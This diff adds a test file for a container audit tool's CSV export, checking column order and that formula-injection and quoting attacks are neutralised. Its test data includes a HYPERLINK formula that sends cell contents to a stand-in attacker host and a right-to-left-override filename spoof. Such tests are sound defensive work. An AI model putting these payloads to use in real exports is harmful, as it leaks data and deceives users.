@@ -1,0 +1,105 @@
+import { parse } from "csv-parse/sync";
+import { describe, expect, it } from "vitest";
+import { auditContainer } from "@/lib/audit/audit";
+import { caseSnapshot, fixtureSnapshot } from "@/lib/audit/fixtures/load";
+import { CHECK_IDS } from "@/lib/audit/types";
+import { CSV_HEADER, fleetCsv, neutraliseFormula, type ReportRow } from "./csv";
+
+const row = (name: string, overrides: Partial<ReportRow> = {}): ReportRow => ({
+  ...auditContainer(fixtureSnapshot(name)),
+  verification: null,
+  ...overrides,
+});
+
+describe("CSV_HEADER", () => {
+  it("starts with the identity columns, then every check id in order, then the verify columns", () => {
+    expect(CSV_HEADER).toEqual([
+      "container_id",
+      "name",
+      "image",
+      "score",
+      "grade",
+      ...CHECK_IDS,
+      "verify_verdict",
+      "verify_checked_at",
+    ]);
+  });
+});
+
+describe("neutraliseFormula", () => {
+  it.each([
+    [
+      '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")',
+      `'=HYPERLINK("http://attacker.invalid/?x="&A1,"click")`,
+    ],
+    ["+SUM(1,2)", "'+SUM(1,2)"],
+    ["-2+3", "'-2+3"],
+    ["@evil", "'@evil"],
+    ["\t=1+1", "'\t=1+1"],
+    ["\r\n=1+1", "'\r\n=1+1"],
+    ["plain", "plain"],
+    ["a=b", "a=b"],
+    ["", ""],
+  ])("%j → %j", (cell, expected) => {
+    expect(neutraliseFormula(cell)).toBe(expected);
+  });
+});
+
+describe("fleetCsv", () => {
+  it("writes CRLF lines, no BOM, and one row per container", () => {
+    const csv = fleetCsv([row("hardened"), row("writable-default")]);
+    expect(csv.charCodeAt(0)).not.toBe(0xfeff);
+    expect(csv.startsWith("container_id,name,image,score,grade,read-only-rootfs,tmpfs-noexec,")).toBe(true);
+    const lines = csv.split("\r\n");
+    expect(lines).toHaveLength(4);
+    expect(lines[3]).toBe("");
+    expect(csv.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
+  });
+
+  it("holds each check's status and the verify verdict", () => {
+    const verification = { verdict: "enforced" as const, detail: "x", checkedAt: "2026-11-30T00:00:00.000Z" };
+    const [header, hardened] = parse(fleetCsv([row("hardened", { verification })]), {
+      relax_column_count: false,
+    }) as string[][];
+    const record = Object.fromEntries((header ?? []).map((h, i) => [h, hardened?.[i]]));
+    expect(record).toMatchObject({
+      name: "roaudit-capture-hardened",
+      image: "roaudit-fixture:busybox",
+      score: "100",
+      grade: "A",
+      "read-only-rootfs": "pass",
+      "tmpfs-size": "pass",
+      "pids-limit": "pass",
+      verify_verdict: "enforced",
+      verify_checked_at: "2026-11-30T00:00:00.000Z",
+    });
+    expect(record.container_id).toMatch(/^[0-9a-f]{64}$/);
+  });
+
+  it("leaves verify columns empty until verified, and writes na", () => {
+    const [header, r] = parse(fleetCsv([row("writable-default")])) as string[][];
+    const record = Object.fromEntries((header ?? []).map((h, i) => [h, r?.[i]]));
+    expect(record).toMatchObject({ "tmpfs-noexec": "na", verify_verdict: "", verify_checked_at: "" });
+  });
+
+  it("quotes and neutralises hostile text so it round-trips as text (case csv-export-injection-and-quoting)", () => {
+    const base = auditContainer(caseSnapshot("csv-export-injection-and-quoting", "case-csv-inject"));
+    const hostile = [
+      '=HYPERLINK("http://attacker.invalid/?x="&A1,"click")',
+      'line1\nline2, with "quotes", and commas',
+      "\t=1+1",
+      "v\r\n=1+1",
+      "Zürich — 東京 🚀 \u202egpj.exe",
+    ];
+    const rows = hostile.map((name) => ({ ...base, name, image: name, verification: null }));
+    const csv = fleetCsv(rows);
+    const parsed = parse(csv) as string[][];
+    expect(parsed).toHaveLength(1 + hostile.length);
+    for (const [i, name] of hostile.entries()) {
+      const expected = /^[=+\-@\t\r\n]/.test(name) ? `'${name}` : name;
+      expect(parsed[i + 1]?.[1]).toBe(expected);
+      expect(parsed[i + 1]?.[2]).toBe(expected);
+      expect(parsed[i + 1]).toHaveLength(CSV_HEADER.length);
+    }
+  });
+});
